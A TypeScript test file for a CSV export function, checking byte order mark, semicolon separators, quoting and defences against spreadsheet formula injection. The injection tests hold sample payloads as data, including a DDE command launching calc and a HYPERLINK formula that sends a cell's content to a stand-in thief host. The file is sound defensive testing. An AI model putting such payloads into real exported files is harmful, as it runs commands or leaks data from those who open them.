import { describe, expect, test } from 'vitest'
import { toCsv } from './csv'

/** The one cell of a file of one cell, as it stands in the file. */
function cell(value: string): string {
  return toCsv([[value]]).slice(1, -2)
}

test('a file starts with a byte order mark; cells end with ; and lines with CRLF', () => {
  expect(toCsv([])).toBe('\ufeff')
  expect(
    toCsv([
      ['Section', 'Preuve de succès'],
      ['été', ''],
    ]),
  ).toBe('\ufeffSection;Preuve de succès\r\nété;\r\n')
})

test.each([
  ['a;b', '"a;b"'],
  ['dit « "oui" »', '"dit « ""oui"" »"'],
  ['une\r\ndeux\rtrois\nquatre', '"une\ndeux\ntrois\nquatre"'],
  [' bord ', '" bord "'],
  ['a,b', '"a,b"'],
  ['a\tb', '"a\tb"'],
  ['', ''],
  ['a\u0000b', 'ab'],
])('%j is written %j', (value, written) => {
  expect(cell(value)).toBe(written)
})

describe('a cell that starts like a formula is text', () => {
  test.each([
    ["=cmd|'/C calc'!A0"],
    ['=HYPERLINK("https://voleur.exemple/?"&A1)'],
    ['+33 6 12 34 56 78'],
    ['-2+3'],
    ['- une remarque'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['\n=1'],
    ['  =1'],
    ['\u00a0=1'],
    ['\u200b=1'],
    ['\u0000=1'],
    ['＝1+1'],
    ['-12,50+A1'],
    ['--1'],
    ['-'],
  ])('%j', (value) => {
    expect(cell(value)).toMatch(/^"?'/)
  })

  test.each([['https://ex.fr/?a=b'], ['a=b'], ['12-3'], ['Oui'], ['ana@ex.fr'], ['(=1)']])(
    '%j is left alone',
    (value) => {
      expect(cell(value)).toBe(value)
    },
  )
})

test('numbers stay numbers, losses included', () => {
  for (const value of ['0', '-3', '31']) expect(cell(value)).toBe(value)
  // In quotes, which make no text of a number, because LibreOffice cuts at commas too.
  for (const value of ['12,50', '-12,50']) expect(cell(value)).toBe(`"${value}"`)
})
